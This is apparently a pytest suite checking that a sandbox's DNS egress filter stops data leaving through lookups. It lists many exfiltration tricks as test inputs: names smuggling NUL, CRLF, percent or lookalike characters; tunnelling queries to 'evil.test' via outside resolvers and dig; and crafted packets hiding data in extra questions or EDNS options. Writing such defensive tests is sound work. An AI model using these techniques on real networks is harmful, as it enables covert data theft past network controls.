"""Names that are not allowed, however they are spelt, asked or hidden: nobody outside ever hears them."""

from __future__ import annotations

from collections.abc import Callable, Sequence

import pytest

from tests.egress.battery import LOOKUPS, V4, Sides, carried, fixtures, new_word
from tests.egress.internet import Flow, Internet
from tests.egress.program import dns

pytestmark = pytest.mark.backends(docker="user", gvisor="user")

standing, sides = fixtures("""
[network]
allow = ["allowed.test:443", "allowed.test:80", "*.sub.allowed.test:443", "*.sub.allowed.test:80"]
""")

SYSTEM = "10.77.0.2"
NXDOMAIN, FORMERR = 3, 1


def labels(name: str) -> list[str]:
    """The labels of a name that a library would take."""
    return name.split(".")


# Each has one `@`, where the word goes, and nothing else of it is a name that the profile allows.
SPELLINGS = [
    pytest.param(["allowed", "test\0@", "test"], "not the spelling", id="NUL behind the allowed name"),
    pytest.param(["@\0", "allowed", "test"], "not the spelling", id="NUL before it"),
    pytest.param(["@\0", "sub", "allowed", "test"], "not the spelling", id="NUL below the wildcard"),
    pytest.param(["allowed", "test\r\n@", "test"], "not the spelling", id="CRLF"),
    pytest.param(["@\r\n", "sub", "allowed", "test"], "not the spelling", id="CRLF below the wildcard"),
    pytest.param(["@.sub.allowed", "test"], "not the spelling", id="dots within a label"),
    pytest.param(["@.sub.allowed.test"], "not the spelling", id="one label for all"),
    pytest.param(["@ ", "sub", "allowed", "test"], "not the spelling", id="space below the wildcard"),
    pytest.param(["@%00", "sub", "allowed", "test"], "not the spelling", id="percent and NUL"),
    pytest.param(["@%2esub%2eallowed%2etest"], "not the spelling", id="percent and dots"),
    pytest.param(["@\u3002".encode().decode("latin-1"), "sub", "allowed", "test"], "not the spelling",
                 id="ideographic full stop"),
    pytest.param(["@\uff0eallowed".encode().decode("latin-1"), "test"], "not the spelling",
                 id="fullwidth full stop"),
    pytest.param(["@\xe4", "sub", "allowed", "test"], "not the spelling", id="latin-1 letter"),
    pytest.param(["@", "\u0430llowed".encode().decode("latin-1"), "test"], "not the spelling",
                 id="Cyrillic letter, in UTF-8"),
    pytest.param(["@", "xn--llowed-8nf", "test"], "not allowed", id="Cyrillic letter, in IDNA"),
    pytest.param(["@\\046", "sub", "allowed", "test"], "not the spelling", id="escaped dot of zone files"),
    pytest.param(["@*", "sub", "allowed", "test"], "not the spelling", id="a wildcard's own star"),
    pytest.param(["@", "allowed", "test"], "not allowed", id="below an exact name"),
    pytest.param(["@sub", "allowed", "test"], "not allowed", id="beside the wildcard"),
    pytest.param(["sub", "allowed", "test", "@"], "not allowed", id="allowed name before another zone"),
    pytest.param(["sub", "allowed", "test", "@", "evil", "test"], "not allowed", id="allowed name first"),
    pytest.param(["@allowed", "test"], "not allowed", id="allowed name as a suffix"),
    pytest.param(["@", "evil", "test"], "not allowed", id="data below another name"),
    pytest.param(["@" + "x" * 40, "y" * 63, "z" * 63, "evil", "test"], "not allowed", id="as long as can be"),
]  # fmt: skip


@pytest.mark.threat(
    "D3", backend="native", proves="a name in no spelling leaves: NUL, CRLF, dots, percent, IDNA"
)
@pytest.mark.parametrize(("spelt", "reason"), SPELLINGS)
def test_a_name_that_is_not_allowed(spelt: Sequence[str], reason: str, sides: Sides) -> None:
    word = new_word()
    ways = {word: False, f"{word}t": True}  # over UDP, and over TCP
    for said, tcp in ways.items():
        asked = [label.replace("@", said) for label in spelt]
        answer = sides.attack("dns.ask", labels=asked, server=SYSTEM, tcp=tcp)
        assert answer == {"got": {"rcode": NXDOMAIN, "answers": 0}}
        assert said in sides.denied("dns.deny", reason)["detail"]["host"]
    sides.silent(word)
    for said, tcp in ways.items():
        asked = [label.replace("@", said) for label in spelt]
        sides.control(said, "dns.ask", labels=asked, server=SYSTEM, tcp=tcp)


@pytest.mark.threat(
    "D3", backend="native", proves="a wildcard allows neither its apex nor what only ends alike"
)
@pytest.mark.parametrize(
    "host", ["sub.allowed.test", "evil.test", "allowed.test.evil.test", "xsub.allowed.test"]
)
def test_the_resolver_of_the_system_knows_no_such_name(host: str, sides: Sides) -> None:
    host = host if host in ("sub.allowed.test", "evil.test") else f"{new_word()}-{host}"
    sides.refused("dns.resolve", name=host)
    sides.silent(host)
    sides.denied("dns.deny", "not allowed", host=host)
    sides.control(host, "dns.resolve", name=host)


@pytest.mark.parametrize(
    "host", ["allowed.test", "ALLOWED.Test", "allowed.test.", "{}.sub.allowed.test", "{}.b.sub.allowed.test"]
)
def test_what_is_allowed_is_reached(host: str, sides: Sides, internet: Internet) -> None:
    word = new_word()
    host = host.format(word)
    request = f"GET /{word} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
    answer = sides.attack("streams.tell", host=host, port=80, word=request)
    assert "hello" in str(answer)
    assert [one["path"] for one in internet.requests()] == [f"/{word}"]
    assert internet.outside_packets(LOOKUPS, Flow("tcp", V4, 80)) == []


@pytest.mark.threat("D3", backend="native", proves="the case of letters carries nothing out of a lookup")
def test_the_case_of_a_name_is_not_passed_on(sides: Sides, internet: Internet) -> None:
    coded = "aLLoWeD.tESt"
    request = "GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n"
    sides.attack("streams.tell", host=coded, port=80, word=request)
    assert set(internet.names_asked()) <= {"allowed.test"}
    assert coded.split(".")[0].encode() not in carried(internet, LOOKUPS)
    internet.begin()
    sides.outside.call("streams.tell", host=coded, port=80, word=request)
    assert coded.split(".")[0].encode() in carried(internet, LOOKUPS)


# --- other resolvers ------------------------------------------------------------------------------


@pytest.mark.threat("D3", backend="native", proves="no other resolver is reached, over UDP, TCP or IPv6")
@pytest.mark.threat("K3", backend="native", proves="DNS tunnelling to a resolver of the attacker's own fails")
@pytest.mark.parametrize("tcp", [pytest.param(False, id="udp"), pytest.param(True, id="tcp")])
@pytest.mark.parametrize("server", ["8.8.8.8", "2001:4860:4860::8888", "127.0.0.53", "203.0.113.53"])
def test_another_resolver_is_ours(server: str, tcp: bool, sides: Sides, internet: Internet) -> None:
    word = new_word()
    answer = sides.attack("dns.ask", labels=[word, "evil", "test"], server=server, tcp=tcp)
    assert answer == {"got": {"rcode": NXDOMAIN, "answers": 0}}
    sides.silent(word)
    sides.denied("dns.deny", "not allowed", host=f"{word}.evil.test")
    if server == "127.0.0.53":
        return  # nobody listens there in the test host
    sides.control(word, "dns.ask", labels=[word, "evil", "test"], server=server, tcp=tcp)


@pytest.mark.threat("D3", backend="native", proves="dig reaches no other resolver, and learns no other name")
@pytest.mark.parametrize(
    ("server", "option"),
    [
        (SYSTEM, []),
        ("8.8.8.8", ["+tcp"]),
        ("8.8.8.8", ["+bufsize=4096"]),
        ("2001:4860:4860::8888", ["+cookie"]),
    ],
)
def test_dig(server: str, option: list[str], sides: Sides, internet: Internet) -> None:
    word = new_word()
    words = ["+tries=1", "+time=3", *option, f"@{server}", f"{word}.evil.test"]
    answer = sides.attack("own.run", words=["dig", *words])
    if answer.get("failed") == "ENOENT":
        pytest.skip("no `dig` inside")
    assert "status: NXDOMAIN" in answer["got"]
    sides.silent(word)
    sides.denied("dns.deny", "not allowed", host=f"{word}.evil.test")
    sides.control(word, "own.run", words=["dig", *words])


@pytest.mark.threat(
    "D3", backend="native", proves="no record but addresses is served, not even of an allowed name"
)
@pytest.mark.parametrize("kind", [10, 16, 255, 252, 15, 2, 12, 33, 46, 99])
def test_records_that_carry_data(kind: int, sides: Sides) -> None:
    word = new_word()
    asked = [word, "sub", "allowed", "test"]
    answer = sides.attack("dns.ask", labels=asked, server="8.8.8.8", kind=kind)
    assert answer == {"got": {"rcode": 0, "answers": 0}}
    sides.silent(word)
    sides.denied("dns.deny", f"record type {kind} ", host=".".join(asked))
    sides.control(word, "dns.ask", labels=asked, server="8.8.8.8", kind=kind)


@pytest.mark.threat(
    "D3", backend="native", proves="an allowed name that is only looked up is nobody's to hear"
)
@pytest.mark.parametrize("kind", [1, 28, 65, 64])
def test_labels_below_an_allowed_wildcard(kind: int, sides: Sides) -> None:
    word = new_word()
    asked = [word, "sub", "allowed", "test"]
    answer = sides.attack("dns.ask", labels=asked, server=SYSTEM, kind=kind)
    assert answer == {"got": {"rcode": 0, "answers": int(kind < 64)}}
    sides.silent(word)
    sides.control(word, "dns.ask", labels=asked, server=SYSTEM, kind=kind)


# --- packets that are not queries -----------------------------------------------------------------


def _second_question(word: bytes) -> bytes:
    return dns.query(
        dns.question([b"allowed", b"test"]) + dns.question([word, b"evil", b"test"]), questions=2
    )


def _opt(word: bytes, code: int) -> bytes:
    option = code.to_bytes(2, "big") + len(word).to_bytes(2, "big") + word
    return b"\0\x00\x29\x10\x00\0\0\0\0" + len(option).to_bytes(2, "big") + option


PACKETS = [
    pytest.param(_second_question, "2 questions", id="a second question"),
    pytest.param(lambda word: dns.query(dns.question([b"allowed", b"test"]) + word), "after its end",
                 id="data behind the question"),
    pytest.param(lambda word: dns.query(dns.question([b"allowed", b"test"]) + _opt(word, 65001) * 2,
                                        additional=2), "2 additional", id="two OPT records"),
    pytest.param(lambda word: dns.query(dns.question([word, b"evil", b"test"]), flags=0x2900), "operation 5",
                 id="an update"),
    pytest.param(lambda word: dns.query(dns.question([word, b"evil", b"test"]), flags=0x2100), "operation 4",
                 id="a notification"),
    pytest.param(lambda word: dns.query(bytes([len(word)]) + word + b"\xc0\x0c\0\x01\0\x01"), "pointer",
                 id="a pointer to itself"),
    pytest.param(lambda word: dns.query(b"\x41" + word + b"\0\0\x01\0\x01"), "label of no kind",
                 id="a bit-string label"),
]  # fmt: skip


@pytest.mark.threat("D3", backend="native", proves="a packet that is not one plain query goes nowhere")
@pytest.mark.parametrize("tcp", [pytest.param(False, id="udp"), pytest.param(True, id="tcp")])
@pytest.mark.parametrize(("make", "reason"), PACKETS)
def test_packets_that_are_no_query(
    make: Callable[[bytes], bytes], reason: str, tcp: bool, sides: Sides
) -> None:
    word = new_word()
    packet = make(word.encode()).hex()
    answer = sides.attack("dns.send", packet=packet, server="8.8.8.8", tcp=tcp)
    assert answer in ({"got": {"rcode": FORMERR, "answers": 0}}, {"got": {"rcode": NXDOMAIN, "answers": 0}})
    sides.silent(word)
    if not tcp:
        sides.denied("dns.deny", reason)
    sides.control(word, "dns.send", packet=packet, server="8.8.8.8", tcp=tcp, seconds=0.3)


@pytest.mark.threat(
    "D3", backend="native", proves="an EDNS option of an allowed lookup is passed on to nobody"
)
def test_data_in_an_option(sides: Sides) -> None:
    word = new_word()
    packet = dns.query(dns.question([b"allowed", b"test"]) + _opt(word.encode(), 65001), additional=1).hex()
    assert sides.attack("dns.send", packet=packet, server="8.8.8.8") == {"got": {"rcode": 0, "answers": 1}}
    sides.silent(word)
    sides.control(word, "dns.send", packet=packet, server="8.8.8.8")


@pytest.mark.threat("D3", backend="native", proves="other classes of DNS are as closed as the internet's own")
@pytest.mark.parametrize("cls", [3, 4, 255])
def test_other_classes(cls: int, sides: Sides) -> None:
    word = new_word()
    asked = [word, "sub", "allowed", "test"]
    answer = sides.attack("dns.ask", labels=asked, server=SYSTEM, cls=cls)
    assert answer == {"got": {"rcode": NXDOMAIN, "answers": 0}}
    sides.silent(word)
    sides.control(word, "dns.ask", labels=asked, server=SYSTEM, cls=cls)
